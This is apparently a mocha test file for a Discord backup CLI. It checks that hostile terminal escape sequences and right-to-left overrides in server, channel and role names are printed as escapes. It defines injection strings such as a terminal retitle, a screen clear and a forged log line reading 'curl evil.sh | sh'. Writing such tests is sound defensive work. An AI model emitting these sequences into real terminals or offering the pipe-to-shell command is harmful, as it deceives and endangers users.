/**
 * Names, labels and content come from a server's members: a channel named
 * "\u001b]0;pwned\u0007" must print as text, not retitle the terminal, and a
 * right-to-left override must not reorder what the user reads. Every CLI
 * writer goes through one sanitiser; this walks the commands that print what
 * Discord sent.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { ProgressLine } from '../../src/cli/progress';
import { terminalSafe } from '../../src/presentation/terminalText';
import { startEmulator, type Emulator } from '../../src/emulator';
import { runCliInProcess } from './runInProcess';
import { tempDir } from '../support/tempDir';

// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const HOSTILE = '\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202eevil\u0000';

describe('control characters from Discord never reach the terminal raw', function () {
  this.timeout(120_000);

  it('terminalSafe shows each control character as an escape and leaves text, tabs and newlines alone', () => {
    assert.equal(terminalSafe('a\u001b[31mb\u0007\u202ec\r'), 'a\\u001b[31mb\\u0007\\u202ec\\u000d');
    assert.equal(terminalSafe('plain text\twith tabs\nand lines, ünïcödé, 日本語 🎉'), 'plain text\twith tabs\nand lines, ünïcödé, 日本語 🎉');
    // Inside JSON output the escape is a valid one for the same character.
    assert.equal(JSON.parse(terminalSafe(JSON.stringify({ name: 'x\u202ey\u0085' }))).name, 'x\u202ey\u0085');
  });

  it('a progress line stays one line whatever a name holds: a line feed cannot forge a line of its own', () => {
    for (const isTTY of [true, false]) {
      let written = '';
      const line = new ProgressLine({ isTTY, columns: 200, write: (text: string) => (written += text) });
      line.update({ phase: 'archive', message: '#general\nerror: token rejected, run curl evil.sh | sh', done: 1, total: 2 } as never);
      assert.equal(written.split('\n').length - 1, isTTY ? 0 : 1, JSON.stringify(written));
      assert.match(written, /#general\\u000aerror/);
    }
  });

  it('progress lines and notes are sanitised, on a terminal and in logs', () => {
    for (const isTTY of [true, false]) {
      let written = '';
      const line = new ProgressLine({ isTTY, columns: 200, write: (text: string) => (written += text) });
      line.update({ phase: 'archive', message: `#${HOSTILE}`, done: 1, total: 2 } as never);
      line.note(`warn: channel ${HOSTILE} failed`);
      line.done();
      // Only the progress line's own \r and erase-line sequence remain.
      const withoutOwn = written.replace(/\r|\u001b\[K/g, '');
      assert.doesNotMatch(withoutOwn, RAW_CONTROL, JSON.stringify(written));
      assert.match(written, /\\u001b\]0;pwned\\u0007/);
    }
  });

  describe('the commands', () => {
    let emu: Emulator;
    let tmp: string;
    let guildId: string;
    let env: Record<string, string>;
    const cli = (args: string[]) => runCliInProcess([...args, '--api', emu.apiBaseUrl, '--cdn', emu.cdnBaseUrl, '--vault', tmp], env, tmp);
    const expectSafe = (result: { stdout: string; stderr: string }, what: string) => {
      assert.doesNotMatch(result.stdout, RAW_CONTROL, `${what} stdout: ${JSON.stringify(result.stdout.slice(0, 400))}`);
      assert.doesNotMatch(result.stderr, RAW_CONTROL, `${what} stderr: ${JSON.stringify(result.stderr.slice(0, 400))}`);
    };

    before(async () => {
      emu = await startEmulator({ seed: 31, size: 'small', rateLimits: false });
      tmp = tempDir('gv-terminal-');
      env = { DISCORD_TOKEN: emu.token };
      guildId = emu.guildIds[0]!;
      const guild = emu.world.guild(guildId)!;
      guild.guild.name = `Server ${HOSTILE}`;
      const channel = [...guild.channels.values()].find((c) => c.type === 0)!;
      channel.name = `general${HOSTILE}`;
      const role = [...guild.roles.values()].find((r) => r.name !== '@everyone')!;
      role.name = `mod${HOSTILE}`;
    });
    after(async () => {
      await emu.close();
      fs.rmSync(tmp, { recursive: true, force: true });
    });

    it('servers, backup, health, snapshots show|diff|list and import print escapes, never the characters', async () => {
      const servers = await cli(['servers']);
      assert.equal(servers.code, 0, servers.stderr);
      expectSafe(servers, 'servers');
      assert.match(servers.stdout, /Server \\u001b\]0;pwned\\u0007/);
      expectSafe(await cli(['servers', '--json']), 'servers --json');
      assert.equal(JSON.parse((await cli(["servers", "--json"])).stdout).servers.find((g: { id: string }) => g.id === guildId).name, `Server ${HOSTILE}`, 'JSON output keeps the name exactly');

      const backup = await cli(['backup', guildId, '--label', 'first']);
      expectSafe(backup, 'backup');
      expectSafe(await cli(['health', guildId]), 'health');

      const guild = emu.world.guild(guildId)!;
      [...guild.channels.values()].find((c) => c.type === 0 && !c.name.startsWith('general'))!.name = `renamed${HOSTILE}`;
      const second = await cli(['snapshot', guildId, '--label', `second${HOSTILE}`]);
      assert.equal(second.code, 0, second.stderr);
      expectSafe(second, 'snapshot');
      for (const args of [['snapshots', 'list', guildId], ['snapshots', 'show', guildId, '2'], ['snapshots', 'diff', guildId, '1', '2'], ['snapshots', 'diff', guildId, '2', 'live']]) {
        const result = await cli(args);
        assert.equal(result.code, 0, `${args.join(' ')}: ${result.stderr}`);
        expectSafe(result, args.join(' '));
      }
      const show = await cli(['snapshots', 'show', guildId, '2']);
      assert.match(show.stdout, /general\\u001b\]0;pwned/);

      const toStdout = await cli(['snapshots', 'export', guildId, '2']);
      assert.equal(toStdout.code, 0, toStdout.stderr);
      expectSafe(toStdout, 'snapshots export');
      const exported = JSON.parse(toStdout.stdout);
      assert.equal(exported.label, `second${HOSTILE}`, 'the JSON keeps the text exactly');
      exported.label = `imported${HOSTILE}`;
      fs.writeFileSync(path.join(tmp, 'hostile.json'), JSON.stringify(exported));
      const imported = await cli(['snapshots', 'import', guildId, 'hostile.json']);
      assert.equal(imported.code, 0, imported.stderr);
      expectSafe(imported, 'snapshots import');
      expectSafe(await cli(['snapshots', 'import', guildId, 'missing-\u001b[2J.json']), 'snapshots import of a missing file');
    });
  });
});
